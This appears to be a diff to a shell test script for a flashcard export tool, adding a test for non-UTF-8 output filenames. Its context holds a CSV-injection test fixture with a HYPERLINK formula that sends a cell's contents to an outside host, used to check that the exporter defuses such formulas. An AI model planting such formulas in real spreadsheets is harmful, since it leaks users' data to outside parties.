@@ -58,6 +58,11 @@ check "--output refuses to overwrite without --force" \
   test "$status:$out:$(cat "$work/existing.tsv")" = "2:awsml-tui: error: $work/existing.tsv: already exists; add --force to overwrite it:keep me"
 check "--force overwrites" bash -c "'$binary' export --format anki --output '$work/existing.tsv' --force && head -1 '$work/existing.tsv' | grep -q '#separator:tab'"
 
+# --output named in Latin-1 (caf\xe9.tsv) is written under that name, not as caf\xef\xbf\xbd.tsv.
+"$binary" export --format anki --output "$work/caf"$'\xe9'".tsv"
+check "--output with a name that is not UTF-8 writes that very file" \
+  bash -c "[ -s '$work/caf'$'\xe9''.tsv' ] && [ ! -e '$work/caf'$'\xef\xbf\xbd''.tsv' ]"
+
 # CSV injection (OWASP): a cell a spreadsheet would run as a formula starts
 # with a quote; the text after it is the fact as check --json has it.
 printf '%s\n' '# Formulas' '## Topic' '- =HYPERLINK("http://example.com/?x=" & A1, "click")' '- +1+2 as text' \
